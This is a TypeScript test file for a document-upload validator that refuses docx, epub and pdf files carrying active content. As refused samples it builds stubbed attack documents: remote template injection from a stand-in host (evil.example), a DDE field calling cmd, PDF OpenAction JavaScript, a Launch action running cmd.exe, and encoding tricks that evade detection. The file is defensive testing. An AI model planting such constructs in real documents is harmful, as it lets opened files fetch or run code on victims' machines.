import { deflateSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { expect, test } from "vitest";
import { fileKindOf } from "./file-kind.ts";

const TYPES = { "[Content_Types].xml": "<Types/>" };
const archive = (files: Record<string, string>) =>
  Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)]))));

/** Files that run or fetch something when they are opened, as an attacker would write them. */
const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const inWord = (more: Record<string, string>) => archive({ ...TYPES, "word/document.xml": "<w:document/>", ...more });
const inBook = (chapter: string) =>
  archive({ mimetype: "application/epub+zip", "META-INF/container.xml": "<container/>", "a.xhtml": chapter });
const packed = (words: string) =>
  Buffer.concat([
    Buffer.from("%PDF-1.7\n1 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\n"),
    deflateSync(Buffer.from(words)),
    Buffer.from("\nendstream endobj\n%%EOF"),
  ]);
const pdf = (words: string) => Buffer.from(`%PDF-1.7\n1 0 obj <</Type /Catalog ${words}>> endobj\n%%EOF`);

test.each<[string, Buffer]>([
  [
    "template.docx",
    inWord({ "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/a.dotm") }),
  ],
  ["frame.docx", inWord({ "word/_rels/webSettings.xml.rels": relation("frame", "\\\\10.0.0.1\\share") })],
  ["picture.docx", inWord({ "word/_rels/document.xml.rels": relation("image", "https://evil.example/p.png") })],
  [
    "hidden.docx",
    inWord({ "word/_rels/a.rels": relation("attachedTemplate", "x>y").replace("External", "Exter&#110;al") }),
  ],
  ["ole.docx", inWord({ "word/embeddings/oleObject1.bin": "MZ" })],
  ["object.docx", inWord({ "word/header1.xml": "<w:hdr><w:object/></w:hdr>" })],
  [
    "dde.docx",
    inWord({ "word/footer1.xml": "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>" }),
  ],
  ["script.epub", inBook("<html><script>x</script></html>")],
  ["handler.epub", inBook('<html><p onclick="x">a</p></html>')],
  ["remote.epub", inBook('<html><img src="https://evil.example/i.png"/></html>')],
  ["script.pdf", pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>")],
  ["spelled.pdf", pdf("/OpenAction <</S /J#61vaScript /JS (x)>>")],
  ["launch.pdf", pdf("/OpenAction <</S /Launch /F (cmd.exe)>>")],
  ["packed.pdf", packed("<</S /JavaScript /JS (x)>>")],
  ["attached.pdf", pdf("/Names <</EmbeddedFiles 5 0 R>>")],
])("a study material runs and fetches nothing when it is opened: %s is refused", async (name, bytes) => {
  expect(fileKindOf(name, bytes)).toBeNull();
});

test("a study material may link to a page that is opened by a press, and a chart keeps its numbers", () => {
  const good: [string, Buffer][] = [
    [
      "link.docx",
      inWord({ "word/_rels/document.xml.rels": relation("relationships/hyperlink", "https://waecnigeria.org") }),
    ],
    ["chart.docx", inWord({ "word/embeddings/Microsoft_Excel_Sheet1.xlsx": "PK" })],
    ["book.epub", inBook('<html><a href="https://waecnigeria.org">WAEC</a></html>')],
    ["page.pdf", pdf("/OpenAction [3 0 R /Fit] /A <</S /URI /URI (https://waecnigeria.org)>>")],
    ["modern.pdf", packed("<</Type /Page /Annots []>>")],
  ];
  for (const [name, bytes] of good)
    expect([name, fileKindOf(name, bytes)?.extension]).toEqual([name, name.split(".")[1]]);
});
